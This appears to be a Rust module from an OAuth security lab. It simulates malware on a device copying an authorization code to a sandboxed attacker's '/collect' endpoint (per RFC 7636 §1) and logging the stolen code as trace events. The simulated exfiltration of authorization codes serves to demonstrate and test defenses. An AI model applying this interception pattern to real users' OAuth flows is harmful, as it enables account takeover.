//! A provider's code, on its way to where it should not be.

use lab::{Event, Lane, Mark};
use serde_json::{Value, json};

use super::Stage;
use crate::experiments::Void;
use crate::lab::Fingerprint;

impl Stage {
    /// Sends a copy of a code to the attacker's site, as malware on the device could that sees where the browser is sent (RFC
    /// 7636 §1). What comes back is what arrived there.
    pub(crate) async fn copy_code_by_malware(&mut self, code: &str) -> Result<String, Void> {
        let status = self.attacker.collect(&json!({ "code": code })).await?;
        self.note_code(
            Lane::SecondBrowser,
            "POST /collect",
            status,
            "malware on the device: a copy of the code",
        );
        let arrived = self.next_code().await?;
        arrived.ok_or_else(|| {
            Void("The copy did not arrive at the attacker’s, so nothing was tried.".to_owned())
        })
    }

    /// The code that a provider has sent the victim's browser to the attacker with, if it has.
    pub(crate) async fn code_sent_astray(&mut self) -> Result<Option<String>, Void> {
        let code = self.next_code().await?;
        if code.is_some() {
            self.note_code(Lane::Browser, "GET /code", 303, "the provider sent her code here");
        }
        Ok(code)
    }

    async fn next_code(&mut self) -> Result<Option<String>, Void> {
        let Some(loot) = self.attacker.next_loot().await? else { return Ok(None) };
        let found: Value = serde_json::from_str(&loot.text).unwrap_or_default();
        let code = found["code"].as_str().filter(|code| !code.is_empty()).map(str::to_owned);
        let stolen = code.as_deref().map(Fingerprint::of);
        self.traces.stolen(&self.sandbox, stolen.as_slice());
        Ok(code)
    }

    fn note_code(&self, from: Lane, name: &str, status: u16, note: &str) {
        let event = Event {
            from,
            to: Lane::Attacker,
            name: name.to_owned(),
            status: Some(status),
            note: note.to_owned(),
            request: Vec::new(),
            response: Vec::new(),
            mark: Mark::Stolen,
        };
        self.traces.note(&self.sandbox, event);
    }
}
